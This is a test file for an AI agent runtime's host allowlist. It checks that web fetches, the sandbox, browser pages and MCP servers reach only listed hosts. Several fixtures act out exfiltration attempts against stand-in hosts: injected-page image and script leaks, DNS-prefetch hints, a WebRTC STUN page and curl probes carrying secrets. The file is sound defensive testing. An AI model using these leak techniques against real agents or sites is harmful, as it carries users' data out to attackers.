/**
 * The user's `network.only`: every connection the runtime makes on an agent's behalf reaches only
 * the hosts it names. First the policy and the fetches it holds, in process, against real servers
 * on loopback, with each variant an obvious allowlist misses (redirects, names and addresses,
 * international and trailing-dot names, proxies from the environment); then the built command,
 * holding web_fetch, the sandbox even with --trust network, the browser's navigations and
 * subresources, and the user's own MCP servers. MANUS_TEST_PUBLIC_ADDRESSES lets 127.0.0.2 stand
 * for a public address, MANUS_TEST_HOSTS points names at it.
 */
import { createSocket } from 'node:dgram';
import { mkdirSync, mkdtempSync, realpathSync, writeFileSync } from 'node:fs';
import { createServer, request, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ConnectionRefusal } from '../runtime/contract/egress.js';
import { EgressPolicy } from '../runtime/services/network/egress-policy.js';
import { createToolNetwork } from '../runtime/services/network/tool-network.js';
import { RunResourceRegistry } from '../runtime/services/run-resources.js';
import { probeBwrap } from '../runtime/services/sandbox/create-sandbox.js';
import { dnsCatcherMissing, startDnsCatcher, type DnsCatcher } from './attacks/dns-catcher.js';
import { chromiumMissing as isChromiumMissing } from './support/fixture-site.js';
import { cliEntry, makeFixture, readEvents, runCli, type CliResult } from './support/run-cli.js';
import { startScriptedModelServer, type RecordedChatRequest, type ScriptedTurn } from './support/scripted-model-server.js';

const bwrap = await probeBwrap();
const chromiumMissing = isChromiumMissing('browser_use');
if (!bwrap.usable) console.warn(`network.only in bubblewrap skipped: ${bwrap.reason}`);
if (chromiumMissing) console.warn('network.only for the browser skipped: no Chromium');

const publicAddress = '127.0.0.2';
const testHosts = [
  `allowed.test=${publicAddress}`,
  `other.test=${publicAddress}`,
  `allowed.test.other.test=${publicAddress}`,
  'inside.test=127.0.0.1',
  // bücher.test, as a URL and a resolver spell it.
  `xn--bcher-kva.test=${publicAddress}`,
  `bucher.test=${publicAddress}`,
].join(';');
const testNetwork = { MANUS_TEST_PUBLIC_ADDRESSES: publicAddress, MANUS_TEST_HOSTS: testHosts };

interface Recorded {
  host: string;
  url: string;
}

interface RecordingServer {
  server: Server;
  port: number;
  requests: Recorded[];
  /** Requests whose Host header names `host` (any port). */
  seenBy(host: string): Recorded[];
}

/**
 * The site: `/page` (text), `/redirect?to=URL`, and `/browser` (a page that loads an image from
 * other.test and then navigates there, the way an injected page would carry data out).
 */
async function startSite(address: string, page: (port: number) => string): Promise<RecordingServer> {
  const requests: Recorded[] = [];
  const server = createServer((incoming: IncomingMessage, response) => {
    const url = new URL(incoming.url ?? '/', 'http://site');
    requests.push({ host: incoming.headers.host ?? '', url: incoming.url ?? '' });
    if (url.pathname === '/redirect') {
      response.writeHead(302, { location: url.searchParams.get('to') ?? '/' }).end();
    } else if (url.pathname === '/webrtc') {
      // ICE candidates gathered against a STUN server of the attacker's: UDP, which no HTTP proxy sees.
      const stun = url.searchParams.get('stun');
      response.writeHead(200, { 'content-type': 'text/html' }).end([
        '<html><head><title>Call page</title></head><body><script>',
        `const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${stun}' }] });`,
        "connection.createDataChannel('x');",
        'connection.createOffer().then((offer) => connection.setLocalDescription(offer));',
        '</script></body></html>',
      ].join(''));
    } else if (url.pathname === '/hints') {
      // Names a page asks the browser to look up early: DNS carries data without any connection.
      response.writeHead(200, { 'content-type': 'text/html' }).end([
        '<html><head><title>Hints page</title>',
        '<link rel="dns-prefetch" href="//prefetch-secret.leak.test"><link rel="preconnect" href="http://preconnect-secret.leak.test">',
        '</head><body><img src="http://image-secret.leak.test/pixel.png"><a href="http://anchor-secret.leak.test/">more</a></body></html>',
      ].join(''));
    } else if (url.pathname === '/browser') {
      response.writeHead(200, { 'content-type': 'text/html' }).end(page((server.address() as AddressInfo).port));
    } else {
      response.writeHead(200, { 'content-type': 'text/html' }).end('<html><head><title>Allowed page</title></head><body><p>The allowed page says hello.</p></body></html>');
    }
  });
  await new Promise<void>((resolve) => server.listen(0, address, resolve));
  const port = (server.address() as AddressInfo).port;
  return { server, port, requests, seenBy: (host) => requests.filter((each) => each.host.split(':')[0].toLowerCase() === host) };
}

const browserPage = (port: number) => [
  '<html><head><title>Injected page</title></head><body>',
  `<img src="http://other.test:${port}/pixel?secret=from-image">`,
  `<script>setTimeout(() => { location.href = 'http://other.test:${port}/navigated?secret=from-script'; }, 300);</script>`,
  '</body></html>',
].join('');

let site: RecordingServer;
/** A proxy an attacker would have the runtime use: it records every request, and forwards none. */
let environmentProxy: RecordingServer;
const savedEnvironment = { ...process.env };

beforeAll(async () => {
  site = await startSite(publicAddress, browserPage);
  environmentProxy = await startSite(publicAddress, () => '');
  process.env.MANUS_TEST_PUBLIC_ADDRESSES = publicAddress;
  process.env.MANUS_TEST_HOSTS = testHosts;
});

afterAll(async () => {
  await catcher?.close();
  for (const key of ['MANUS_TEST_PUBLIC_ADDRESSES', 'MANUS_TEST_HOSTS', 'HTTP_PROXY', 'http_proxy', 'HTTPS_PROXY', 'ALL_PROXY']) {
    if (savedEnvironment[key] === undefined) delete process.env[key];
    else process.env[key] = savedEnvironment[key];
  }
  for (const each of [site, environmentProxy]) {
    each.server.closeAllConnections();
    await new Promise((resolve) => each.server.close(resolve));
  }
});

/** The run's network as run-preparation makes it under `network.only` (and a sandbox's list, when given). */
function heldNetwork(only: string[], sandboxHosts?: string[]) {
  const refusals: ConnectionRefusal[] = [];
  const access = { allowPrivate: false, only };
  const resources = new RunResourceRegistry();
  const policy = new EgressPolicy({ hosts: sandboxHosts ?? only, access, resources, onRefused: (refusal) => refusals.push(refusal) });
  return { network: createToolNetwork(access, policy), policy, refusals, resources };
}

async function fetchText(fetch: (url: string) => Promise<Response>, url: string): Promise<string> {
  try {
    const response = await fetch(url);
    return `${response.status} ${await response.text()}`;
  } catch (error) {
    return `refused ${(error as { code?: string }).code ?? ''}: ${(error as Error).message}`;
  }
}

describe('network.only holds the runtime\'s fetch', () => {
  it('reaches a listed host, whatever its case or trailing dot, and refuses another before sending anything', async () => {
    const { network, refusals } = heldNetwork(['allowed.test']);
    const before = site.requests.length;
    expect(await fetchText(network.fetch, `http://allowed.test:${site.port}/page`)).toMatch(/^200 .*allowed page says hello/);
    expect(await fetchText(network.fetch, `http://ALLOWED.Test.:${site.port}/page`)).toMatch(/^200 /);
    const refused = await fetchText(network.fetch, `http://other.test:${site.port}/page?secret=1`);
    expect(refused).toMatch(/^refused network_host_not_allowed: .*other\.test is not in network\.only of your own configuration/);
    expect(refusals).toMatchObject([{ host: 'other.test', reason: 'not-listed', via: 'fetch' }]);
    expect(site.requests.slice(before).map((each) => each.host.split(':')[0].toLowerCase())).toEqual(['allowed.test', 'allowed.test.']);
  });

  it('a listed host that redirects off the list: the redirect is not followed', async () => {
    const { network } = heldNetwork(['allowed.test']);
    const target = `http://other.test:${site.port}/page?secret=redirected`;
    const before = site.seenBy('other.test').length;
    expect(await fetchText(network.fetch, `http://allowed.test:${site.port}/redirect?to=${encodeURIComponent(target)}`)).toMatch(/^refused network_host_not_allowed: .*other\.test/);
    expect(site.seenBy('other.test').length).toBe(before);
  });

  it('names that only look like the listed one are refused: a longer name, userinfo, a query', async () => {
    const { network } = heldNetwork(['allowed.test']);
    for (const url of [
      `http://allowed.test.other.test:${site.port}/page`,
      `http://allowed.test:${site.port}@other.test:${site.port}/page`,
      `http://other.test:${site.port}/page?allowed.test`,
      `http://allowed.test..:${site.port}/page`,
    ]) {
      expect(await fetchText(network.fetch, url), url).toMatch(/^refused /);
    }
  });

  it('the list names hosts, not addresses: a name resolving to a listed address is refused, and a listed name\'s address is not the name', async () => {
    const byAddress = heldNetwork([publicAddress]);
    expect(await fetchText(byAddress.network.fetch, `http://${publicAddress}:${site.port}/page`)).toMatch(/^200 /);
    expect(await fetchText(byAddress.network.fetch, `http://other.test:${site.port}/page`)).toMatch(/^refused network_host_not_allowed/);
    const byName = heldNetwork(['allowed.test']);
    expect(await fetchText(byName.network.fetch, `http://${publicAddress}:${site.port}/page`)).toMatch(/^refused network_host_not_allowed/);
  });

  it('a listed name that resolves to a private address is still refused', async () => {
    const { network } = heldNetwork(['inside.test']);
    expect(await fetchText(network.fetch, `http://inside.test:${site.port}/page`)).toMatch(/^refused network_private_address: inside\.test resolves to the private address 127\.0\.0\.1/);
  });

  it('an international name listed in Unicode matches its punycode form, and a look-alike does not', async () => {
    const { network } = heldNetwork(['bücher.test']);
    expect(await fetchText(network.fetch, `http://bücher.test:${site.port}/page`)).toMatch(/^200 /);
    expect(await fetchText(network.fetch, `http://xn--bcher-kva.test:${site.port}/page`)).toMatch(/^200 /);
    expect(await fetchText(network.fetch, `http://bucher.test:${site.port}/page`)).toMatch(/^refused network_host_not_allowed/);
    // Cyrillic "а" in place of the Latin one: another name altogether.
    const latin = heldNetwork(['allowed.test']);
    expect(await fetchText(latin.network.fetch, `http://\u0430llowed.test:${site.port}/page`)).toMatch(/^refused network_host_not_allowed: .*xn--llowed-/);
    // Full-width letters are the same name once a URL has read them.
    expect(await fetchText(latin.network.fetch, `http://\uff41llowed.test:${site.port}/page`)).toMatch(/^200 /);
  });

  it('a listed port narrows the host to it', async () => {
    const { network } = heldNetwork(['allowed.test:443']);
    expect(await fetchText(network.fetch, `http://allowed.test:${site.port}/page`)).toMatch(/^refused network_host_not_allowed/);
  });

  it('a proxy named in the environment is not used: a listed host is reached directly, an unlisted one through no proxy', async () => {
    const proxy = `http://${publicAddress}:${environmentProxy.port}`;
    Object.assign(process.env, { HTTP_PROXY: proxy, http_proxy: proxy, HTTPS_PROXY: proxy, ALL_PROXY: proxy });
    try {
      const { network } = heldNetwork(['allowed.test']);
      expect(await fetchText(network.fetch, `http://allowed.test:${site.port}/page`)).toMatch(/^200 .*allowed page/);
      expect(await fetchText(network.fetch, `http://other.test:${site.port}/page`)).toMatch(/^refused network_host_not_allowed/);
      expect(environmentProxy.requests).toEqual([]);
    } finally {
      for (const key of ['HTTP_PROXY', 'http_proxy', 'HTTPS_PROXY', 'ALL_PROXY']) delete process.env[key];
    }
  });

  it('a recipe\'s sandbox list narrows the user\'s, never widens it', async () => {
    const wider = heldNetwork(['allowed.test'], ['allowed.test', 'other.test']);
    expect(await fetchText(wider.network.fetch, `http://other.test:${site.port}/page`)).toMatch(/network\.only of your own configuration/);
    const narrower = heldNetwork(['allowed.test', 'other.test'], ['allowed.test']);
    expect(await fetchText(narrower.network.fetch, `http://allowed.test:${site.port}/page`)).toMatch(/^200 /);
    expect(await fetchText(narrower.network.fetch, `http://other.test:${site.port}/page`)).toMatch(/not in the run's allowed hosts; list it in sandbox\.network\.allow/);
  });

  it('the user\'s own servers: any address the list names, private ones included, and nothing else', async () => {
    const listed = heldNetwork([`127.0.0.2:${site.port}`]);
    expect(listed.network.userFetch).toBeDefined();
    expect(await fetchText(listed.network.userFetch!, `http://127.0.0.2:${site.port}/page`)).toMatch(/^200 /);
    expect(await fetchText(listed.network.userFetch!, `http://allowed.test:${site.port}/page`)).toMatch(/^refused network_host_not_allowed/);
    // Without network.only the user's own servers use the plain fetch, as before.
    expect(createToolNetwork({ allowPrivate: false }).userFetch).toBeUndefined();
  });

  it('the proxy the sandbox and the browser go through applies the same list', async () => {
    const { policy, resources } = heldNetwork(['allowed.test']);
    try {
      const browser = await (await policy.proxy()).browser();
      const through = (url: string) => new Promise<number>((resolve, reject) => {
        const { hostname, port } = new URL(browser.server);
        const credential = Buffer.from(`${browser.username}:${browser.password}`).toString('base64');
        request({ host: hostname, port, method: 'GET', path: url, headers: { host: new URL(url).host, 'proxy-authorization': `Basic ${credential}` } }, (response) => {
          response.resume();
          resolve(response.statusCode ?? 0);
        }).on('error', reject).end();
      });
      expect(await through(`http://allowed.test:${site.port}/page`)).toBe(200);
      expect(await through(`http://other.test:${site.port}/page`)).toBe(403);
      expect(await through(`http://${publicAddress}:${site.port}/page`)).toBe(403);
    } finally {
      await resources.disposeAll();
    }
  });
});

const call = (name: string, args: Record<string, unknown>): ScriptedTurn => ({ toolCalls: [{ name, arguments: args }] });
const terminate: ScriptedTurn = call('terminate', { status: 'success', message: 'done' });

const recipe = (tools: string[], sandbox?: string) => [
  'version: 1',
  'name: network-only-test',
  'prompt: Reach the hosts.',
  'agent:',
  '  system_prompt: You reach hosts.',
  `  tools: [${tools.join(', ')}]`,
  ...(sandbox ? [`  sandbox: ${sandbox}`] : []),
  '',
].join('\n');

interface HeldRun extends CliResult {
  fixture: string;
  configHome: string;
  toolResults: string[];
  events: Array<Record<string, any>>;
}

/** Runs the built command with a user config whose `network.only` is `only`. */
/**
 * The attack suite's resolver, when this machine can give a run a network namespace of its own
 * (root, unshare, socat): names a run looks up are seen there, and nothing reaches a real resolver.
 */
let catcher: DnsCatcher | undefined;
const catcherMissing = dnsCatcherMissing();
if (catcherMissing) console.warn(`network.only's DNS checks are skipped: ${catcherMissing}`);

async function runHeld(files: Record<string, string>, only: string[] | undefined, args: string[], turns: ScriptedTurn[], extraConfig = '', { catchDns = false } = {}): Promise<HeldRun> {
  const fixture = makeFixture(files);
  const configHome = realpathSync(mkdtempSync(join(tmpdir(), 'manus-network-only-')));
  mkdirSync(join(configHome, 'manus'));
  writeFileSync(join(configHome, 'manus', 'config.yaml'), `version: 1\n${only ? `network:\n  only: ${JSON.stringify(only)}\n` : ''}${extraConfig}`);
  const server = await startScriptedModelServer({ turns });
  if (catchDns && !catcherMissing) catcher ??= await startDnsCatcher('127.0.0.58');
  const namespace = catchDns ? await catcher?.enter([process.execPath, cliEntry]) : undefined;
  try {
    const result = await runCli(['run', 'recipe.yaml', '--ci', '--json', ...args], {
      cwd: fixture,
      ...(namespace ? { command: namespace.command } : {}),
      timeoutMs: 120_000,
      env: { OPENAI_BASE_URL: server.baseUrl, OPENAI_API_KEY: 'test-key', MANUS_MODEL: 'scripted-model', MANUS_PYTHON: '/usr/bin/python3', XDG_CONFIG_HOME: configHome, ...testNetwork },
    });
    const chats = server.requests.filter((each) => each.path.endsWith('/chat/completions')) as RecordedChatRequest[];
    const last = chats.at(-1)?.body.messages ?? [];
    const toolResults = last.filter((message) => message.role === 'tool').map((message) => String(message.content));
    const events = result.json?.runDirectory ? readEvents(result.json.runDirectory) : [];
    return { ...result, fixture, configHome, toolResults, events };
  } finally {
    await namespace?.close();
    await server.close();
  }
}

describe('network.only in a run of the built command', () => {
  it('holds web_fetch to the list while the model, on loopback, is reached as before; a bad pattern is an error at its place', async () => {
    const run = await runHeld({ 'recipe.yaml': recipe(['web_fetch', 'terminate']) }, ['allowed.test'], [], [
      { toolCalls: [{ name: 'web_fetch', arguments: { url: `http://allowed.test:${site.port}/page` } }, { name: 'web_fetch', arguments: { url: `http://other.test:${site.port}/page` } }] },
      terminate,
    ]);
    expect(run.exitCode, run.stderr).toBe(0);
    expect(run.toolResults[0]).toContain('The allowed page says hello.');
    expect(run.toolResults[1]).toMatch(/other\.test is not in network\.only of your own configuration/);
    expect(run.events.find((event) => event.type === 'connection-refused')).toMatchObject({ host: 'other.test', via: 'fetch', tool: 'web_fetch' });

    const inspected = await runCli(['inspect', 'recipe.yaml'], { cwd: run.fixture, env: { XDG_CONFIG_HOME: run.configHome } });
    expect(inspected.stdout).toContain('every connection held to network.only of your own configuration (the model endpoint aside): allowed.test');

    const bad = await runHeld({ 'recipe.yaml': recipe(['terminate']) }, ['allowed.test', 'https://example.org/'], [], [terminate]);
    expect(bad.exitCode).toBe(2);
    expect(bad.stderr).toMatch(/config\.yaml:3:\d+.*network\.only: 'https:\/\/example\.org\/' is a URL/);
  }, 60_000);

  it('the user\'s own HTTP MCP server off the list is never contacted', async () => {
    const mine = await startSite('127.0.0.1', () => '');
    try {
      const run = await runHeld({ 'recipe.yaml': recipe(['mcp_mine_*', 'terminate']) }, ['allowed.test'], [], [terminate], `mcp_servers:\n  mine:\n    url: http://127.0.0.1:${mine.port}/mcp\n`);
      expect(run.exitCode, run.stderr).toBe(0);
      expect(mine.requests).toEqual([]);
      expect(run.events.find((event) => event.type === 'mcp-server-failed')?.reason).toMatch(/network\.only/);
    } finally {
      mine.server.closeAllConnections();
      await new Promise((resolve) => mine.server.close(resolve));
    }
  }, 60_000);

  it('tools served with manus mcp serve are held to it as a run\'s are', async () => {
    const fixture = makeFixture({});
    const configHome = realpathSync(mkdtempSync(join(tmpdir(), 'manus-network-only-')));
    mkdirSync(join(configHome, 'manus'));
    writeFileSync(join(configHome, 'manus', 'config.yaml'), 'version: 1\nnetwork:\n  only: [allowed.test]\n');
    const transport = new StdioClientTransport({
      command: process.execPath,
      args: [cliEntry, 'mcp', 'serve', '--tools', 'web_fetch'],
      cwd: fixture,
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: configHome, XDG_CONFIG_HOME: configHome, NO_COLOR: '1', ...testNetwork },
      stderr: 'pipe',
    });
    const client = new Client({ name: 'network-only-test', version: '1.0.0' });
    await client.connect(transport);
    try {
      const text = async (url: string) => ((await client.callTool({ name: 'web_fetch', arguments: { url } })) as CallToolResult).content.map((block) => (block.type === 'text' ? block.text : '')).join('\n');
      const before = site.seenBy('other.test').length;
      expect(await text(`http://allowed.test:${site.port}/page`)).toContain('The allowed page says hello.');
      expect(await text(`http://other.test:${site.port}/page?secret=served`)).toMatch(/other\.test is not in network\.only/);
      expect(site.seenBy('other.test').length).toBe(before);
    } finally {
      await client.close();
    }
  }, 60_000);

  it.skipIf(!bwrap.usable)('sandboxed code with --trust network reaches only the listed hosts, and a sandbox without network gets none', async () => {
    const probe = [
      'export HOME=/tmp',
      `echo "allowed: $(curl -sS -f http://allowed.test:${site.port}/page 2>&1 | head -c 200)"`,
      `echo "other: $(curl -sS http://other.test:${site.port}/page?secret=sandbox 2>&1 | head -c 300)"`,
      `echo "no-proxy: $(curl -sS --noproxy '*' --max-time 5 http://${publicAddress}:${site.port}/page?secret=direct 2>&1 | head -c 200)"`,
    ].join('\n');
    const before = site.seenBy('other.test').length;
    const whole = await runHeld({ 'recipe.yaml': recipe(['bash', 'terminate'], '{ kind: bwrap, network: true }') }, ['allowed.test'], ['--trust', 'network'], [call('bash', { command: probe }), terminate]);
    expect(whole.exitCode, whole.stderr).toBe(0);
    const output = whole.toolResults[0];
    expect(output).toMatch(/^allowed: .*allowed page says hello/m);
    expect(output).toMatch(/^other: .*not in network\.only/m);
    expect(output).toMatch(/^no-proxy: curl: \(\d+\)/m);
    expect(site.seenBy('other.test').length).toBe(before);
    expect(site.requests.some((each) => each.url.includes('secret=direct'))).toBe(false);

    const offline = await runHeld({ 'recipe.yaml': recipe(['bash', 'terminate'], '{ kind: bwrap }') }, ['allowed.test'], [], [call('bash', { command: probe }), terminate]);
    expect(offline.exitCode, offline.stderr).toBe(0);
    expect(offline.toolResults[0]).toMatch(/^allowed: curl: \(\d+\)/m);
  }, 120_000);

  it.skipIf(chromiumMissing || catcherMissing !== undefined)('the browser: a listed page\'s image and DNS hints look nothing up, though they do without the list', async () => {
    const turns = (page: string) => [call('browser_use', { action: 'go_to_url', url: page }), call('browser_use', { action: 'wait', seconds: 2 }), terminate];
    const files = { 'recipe.yaml': recipe(['browser_use', 'terminate']) };
    const leaked = () => (catcher?.names ?? []).filter((name) => name.endsWith('leak.test'));
    // Without network.only the browser resolves names itself (so the page is opened by its address,
    // which the test-only setting counts as public), and the catcher sees the page's hints.
    const open = await runHeld(files, undefined, [], turns(`http://${publicAddress}:${site.port}/hints`), '', { catchDns: true });
    expect(open.exitCode, open.stderr).toBe(0);
    const seenOpen = leaked().length;
    expect(seenOpen).toBeGreaterThan(0);
    const held = await runHeld(files, ['allowed.test'], [], turns(`http://allowed.test:${site.port}/hints`), '', { catchDns: true });
    expect(site.seenBy('allowed.test').some((each) => each.url === '/hints')).toBe(true);
    expect(held.exitCode, held.stderr).toBe(0);
    expect(leaked().slice(seenOpen)).toEqual([]);
  }, 120_000);

  it.skipIf(chromiumMissing)('the browser: a listed page\'s WebRTC sends no UDP to a host off the list', async () => {
    const stun = createSocket('udp4');
    const datagrams: string[] = [];
    stun.on('message', (_message, sender) => datagrams.push(`${sender.address}:${sender.port}`));
    await new Promise<void>((resolve) => stun.bind(0, publicAddress, resolve));
    try {
      const run = await runHeld({ 'recipe.yaml': recipe(['browser_use', 'terminate']) }, ['allowed.test'], [], [
        call('browser_use', { action: 'go_to_url', url: `http://allowed.test:${site.port}/webrtc?stun=${publicAddress}:${stun.address().port}` }),
        call('browser_use', { action: 'wait', seconds: 2 }),
        terminate,
      ]);
      expect(run.exitCode, run.stderr).toBe(0);
      expect(site.seenBy('allowed.test').some((each) => each.url.startsWith('/webrtc'))).toBe(true);
      expect(datagrams).toEqual([]);
    } finally {
      stun.close();
    }
  }, 120_000);

  it.skipIf(chromiumMissing)('the browser: a listed page opens, its image and its script\'s navigation to another host never leave', async () => {
    const before = site.seenBy('other.test').length;
    const run = await runHeld({ 'recipe.yaml': recipe(['browser_use', 'terminate']) }, ['allowed.test'], [], [
      call('browser_use', { action: 'go_to_url', url: `http://allowed.test:${site.port}/browser` }),
      call('browser_use', { action: 'wait', seconds: 1 }),
      call('browser_use', { action: 'go_to_url', url: `http://other.test:${site.port}/page?secret=direct` }),
      terminate,
    ]);
    expect(run.exitCode, run.stderr).toBe(0);
    expect(site.seenBy('allowed.test').some((each) => each.url === '/browser')).toBe(true);
    expect(site.seenBy('other.test').slice(before)).toEqual([]);
    expect(run.events.filter((event) => event.type === 'connection-refused').every((event) => event.host === 'other.test' && event.via === 'browser')).toBe(true);
    expect(run.events.some((event) => event.type === 'connection-refused')).toBe(true);
  }, 120_000);
});
